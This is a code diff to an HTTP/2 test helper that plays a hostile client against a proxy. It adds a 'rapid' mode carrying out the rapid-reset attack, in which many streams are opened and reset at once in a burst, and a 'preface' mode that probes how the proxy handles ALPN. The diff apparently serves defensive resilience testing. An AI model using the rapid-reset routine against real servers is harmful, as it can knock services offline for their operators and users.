@@ -21,6 +21,12 @@ HTTP/2 attack tests: what curl, nghttp and grpcio never send.
       N GET streams to each PATH on one connection; once every stream has its head, been reset, or
       the connection ended, it closes the socket mid-flight (bodies unread, streams open). Prints
       "heads H resets R".
+  h2_hostile_peer.py rapid PROXY_PORT HOST PORT CA N
+      Rapid reset: N streams, each reset as soon as its HEADERS are sent, in one burst; prints
+      "goaway CODE" when the gate sends one, and "streams answered A".
+  h2_hostile_peer.py preface PROXY_PORT HOST PORT CA ALPN
+      Offers ALPN (a comma-separated list, or "none"), then speaks HTTP/2 whatever was chosen (the
+      connection preface, SETTINGS, a GET of /record); prints "alpn X" and what came back.
   h2_hostile_peer.py abandon PROXY_PORT HOST PORT CA N
       On one connection, N times: GET /big, read its head, never open the stream's window, reset
       it once the gate has filled it; then POST /record on the same connection, printing
@@ -235,6 +241,61 @@ def storm(proxy_port, host, port, ca, count, paths):
     print("heads %d resets %d" % (heads, resets))
 
 
+def rapid(proxy_port, host, port, ca, count):
+    sock = connect(proxy_port, host, port, ca)
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+    conn.initiate_connection()
+    sock.sendall(conn.data_to_send())
+    answered = 0
+    try:
+        for _ in range(count):
+            stream = conn.get_next_available_stream_id()
+            conn.send_headers(stream, [(":method", "GET"), (":scheme", "https"), (":authority", "%s:%d" % (host, port)), (":path", "/slow")], end_stream=True)
+            conn.reset_stream(stream)
+        sock.sendall(conn.data_to_send())
+        sock.settimeout(5)
+        while True:
+            data = sock.recv(65536)
+            if not data:
+                break
+            for event in conn.receive_data(data):
+                if isinstance(event, h2.events.ResponseReceived):
+                    answered += 1
+                elif isinstance(event, h2.events.ConnectionTerminated):
+                    print("goaway %d" % event.error_code)
+            sock.sendall(conn.data_to_send())
+    except Exception as error:
+        print("error %s" % type(error).__name__)
+    print("streams answered %d" % answered)
+
+
+def preface(proxy_port, host, port, ca, alpn):
+    raw = socket.create_connection(("127.0.0.1", proxy_port), timeout=10)
+    raw.sendall(("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host, port, host, port)).encode())
+    answer = b""
+    while b"\r\n\r\n" not in answer:
+        answer += raw.recv(4096)
+    context = ssl.create_default_context(cafile=ca)
+    if alpn != "none":
+        context.set_alpn_protocols(alpn.split(","))
+    sock = context.wrap_socket(raw, server_hostname=host)
+    print("alpn %s" % sock.selected_alpn_protocol())
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+    conn.initiate_connection()
+    conn.send_headers(1, [(":method", "GET"), (":scheme", "https"), (":authority", "%s:%d" % (host, port)), (":path", "/record")], end_stream=True)
+    sock.sendall(conn.data_to_send())
+    got = b""
+    try:
+        while len(got) < 65536:
+            piece = sock.recv(65536)
+            if not piece:
+                break
+            got += piece
+    except (socket.timeout, ssl.SSLError, OSError):
+        pass
+    print("got %r" % got[:300])
+
+
 def abandon(proxy_port, host, port, ca, count):
     sock = connect(proxy_port, host, port, ca)
     conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
@@ -302,6 +363,12 @@ def abandon(proxy_port, host, port, ca, count):
 
 
 if __name__ == "__main__":
+    if sys.argv[1] == "rapid":
+        rapid(int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5], int(sys.argv[6]))
+        sys.exit(0)
+    if sys.argv[1] == "preface":
+        preface(int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5], sys.argv[6])
+        sys.exit(0)
     if sys.argv[1] == "abandon":
         abandon(int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5], int(sys.argv[6]))
         sys.exit(0)
